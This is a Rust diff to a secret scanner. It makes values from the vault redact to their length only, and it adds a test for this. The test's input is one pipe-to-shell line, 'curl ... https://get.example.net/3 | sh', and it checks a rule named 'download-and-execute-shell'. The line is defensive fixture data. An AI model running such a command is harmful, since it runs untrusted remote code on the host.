@@ -237,7 +237,7 @@ impl Scanner {
         let mut findings = Vec::new();
         // Spans to redact that belong to no finding of their own: the later lines of a vault
         // value that runs over several lines (a PEM key).
-        let mut continued: Vec<(usize, usize, usize)> = Vec::new();
+        let mut continued: Vec<(usize, Mask)> = Vec::new();
         if let Some((automaton, labels)) = &self.known {
             for hit in automaton.find_iter(data) {
                 if findings.len() > limit {
@@ -249,7 +249,14 @@ impl Scanner {
                 let mut later = line + 1;
                 while later < line_starts.len() && line_starts[later] < hit.end() {
                     let to = hit.end().min(line_end(later)) - line_starts[later];
-                    continued.push((later + 1, 0, to));
+                    continued.push((
+                        later + 1,
+                        Mask {
+                            start: 0,
+                            end: to,
+                            known: true,
+                        },
+                    ));
                     later += 1;
                 }
                 findings.push(Finding {
@@ -259,7 +266,7 @@ impl Scanner {
                     rule: KNOWN_VALUE.to_owned(),
                     description: "A value stored in Chaperone's vault".to_owned(),
                     severity: Severity::Critical,
-                    redacted: redact(&data[hit.start()..hit.end()]),
+                    redacted: redact_known(&data[hit.start()..hit.end()]),
                     context: String::new(),
                     fingerprint: fingerprint(KNOWN_VALUE, path, label.as_bytes()),
                     end: hit.end().min(line_end(line)) - line_starts[line],
@@ -343,13 +350,20 @@ impl Scanner {
         findings.dedup_by(|a, b| a.line == b.line && a.column == b.column && a.rule == b.rule);
         // Each context shows its line with every value found on it redacted, not only its
         // own.
-        let mut spans: Vec<(usize, usize, usize)> = findings
+        let mut spans: Vec<(usize, Mask)> = findings
             .iter()
             .filter(|f| f.mask)
-            .map(|f| (f.line, f.column - 1, f.end))
+            .map(|f| {
+                let mask = Mask {
+                    start: f.column - 1,
+                    end: f.end,
+                    known: f.known.is_some(),
+                };
+                (f.line, mask)
+            })
             .chain(continued)
             .collect();
-        spans.sort_unstable();
+        spans.sort_unstable_by_key(|&(line, m)| (line, m.start, m.end));
         for finding in &mut findings {
             let start = line_starts[finding.line - 1];
             let end = line_end(finding.line - 1);
@@ -363,11 +377,11 @@ impl Scanner {
                 }
                 continue;
             }
-            let first = spans.partition_point(|&(line, _, _)| line < finding.line);
-            let on_line: Vec<(usize, usize)> = spans[first..]
+            let first = spans.partition_point(|&(line, _)| line < finding.line);
+            let on_line: Vec<Mask> = spans[first..]
                 .iter()
-                .take_while(|(line, _, _)| *line == finding.line)
-                .map(|&(_, a, b)| (a, b))
+                .take_while(|(line, _)| *line == finding.line)
+                .map(|&(_, mask)| mask)
                 .collect();
             finding.context = context(&data[start..end], finding.column - 1, finding.end, &on_line);
             // Code is shown, but never a secret on the same line.
@@ -578,6 +592,12 @@ fn contains(haystack: &[u8], needle: &[u8]) -> bool {
     !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
 }
 
+/// A value from the vault, redacted to its length only: the people who look at findings
+/// need not be able to read the secret, and four characters of it would narrow a guess.
+fn redact_known(value: &[u8]) -> String {
+    format!("****({} chars)", value.len())
+}
+
 /// The first four characters and the length: enough to recognise a secret one holds,
 /// useless to anyone who does not.
 pub fn redact(secret: &[u8]) -> String {
@@ -610,12 +630,25 @@ fn shorten(code: &[u8]) -> String {
     out
 }
 
+/// A span of a line to redact: a secret found there, or a value from the vault, of which
+/// not even the first characters are shown ([`redact_known`]).
+#[derive(Clone, Copy, Debug)]
+struct Mask {
+    start: usize,
+    end: usize,
+    known: bool,
+}
+
 /// `start..end` of `line` shortened, with any secret spans in it redacted.
-fn shorten_masked(line: &[u8], start: usize, end: usize, secrets: &[(usize, usize)]) -> String {
-    let inside: Vec<(usize, usize)> = secrets
+fn shorten_masked(line: &[u8], start: usize, end: usize, secrets: &[Mask]) -> String {
+    let inside: Vec<Mask> = secrets
         .iter()
-        .filter(|(a, b)| *a < end && *b > start)
-        .map(|&(a, b)| (a.max(start) - start, b.min(end) - start))
+        .filter(|m| m.start < end && m.end > start)
+        .map(|&m| Mask {
+            start: m.start.max(start) - start,
+            end: m.end.min(end) - start,
+            known: m.known,
+        })
         .collect();
     if inside.is_empty() {
         return shorten(&line[start..end]);
@@ -626,9 +659,9 @@ fn shorten_masked(line: &[u8], start: usize, end: usize, secrets: &[(usize, usiz
 
 /// Up to 60 bytes either side of `start..end` in `line`, with every span in `redacted`
 /// (which includes `start..end`) shown redacted.
-fn context(line: &[u8], start: usize, end: usize, redacted: &[(usize, usize)]) -> String {
-    let mut spans: Vec<(usize, usize)> = redacted.to_vec();
-    spans.sort_unstable();
+fn context(line: &[u8], start: usize, end: usize, redacted: &[Mask]) -> String {
+    let mut spans: Vec<Mask> = redacted.to_vec();
+    spans.sort_unstable_by_key(|m| (m.start, m.end));
     let from = start.saturating_sub(60);
     let to = (end + 60).min(line.len());
     let mut out = String::new();
@@ -636,7 +669,12 @@ fn context(line: &[u8], start: usize, end: usize, redacted: &[(usize, usize)]) -
         out.push('…');
     }
     let mut at = from;
-    for (a, b) in spans {
+    for Mask {
+        start: a,
+        end: b,
+        known,
+    } in spans
+    {
         if b <= at || a >= to {
             continue;
         }
@@ -644,7 +682,11 @@ fn context(line: &[u8], start: usize, end: usize, redacted: &[(usize, usize)]) -
             out.push_str(&String::from_utf8_lossy(&line[at..a]));
         }
         // A span cut by the window is still redacted whole.
-        out.push_str(&redact(&line[a..b]));
+        out.push_str(&if known {
+            redact_known(&line[a..b])
+        } else {
+            redact(&line[a..b])
+        });
         at = b;
     }
     if at < to {
@@ -768,6 +810,30 @@ mod tests {
             !json.contains("prod/db"),
             "the label is never serialised: {json}"
         );
+    }
+
+    #[test]
+    fn no_character_of_a_vault_value_is_shown_not_even_its_head() {
+        let value: &[u8] = b"Vault-Secret-Zq81-Lm02";
+        let scanner = scanner().with_known_values(&[(value, "prod/db#password".to_owned())]);
+        let found = scanner.scan_bytes(
+            "x.sh",
+            b"curl -H \"K: Vault-Secret-Zq81-Lm02\" https://get.example.net/3 | sh\n",
+        );
+        let code = found
+            .iter()
+            .find(|f| f.rule == "download-and-execute-shell")
+            .expect("the code is found");
+        assert_eq!(
+            code.redacted,
+            "curl -H \"K: ****(22 chars)\" https://get.example.net/3 | sh"
+        );
+        let known = found.iter().find(|f| f.rule == KNOWN_VALUE).unwrap();
+        assert_eq!(known.redacted, "****(22 chars)");
+        for f in &found {
+            assert!(!f.redacted.contains("Vaul"), "{}", f.redacted);
+            assert!(!f.context.contains("Vaul"), "{}", f.context);
+        }
     }
 
     #[test]
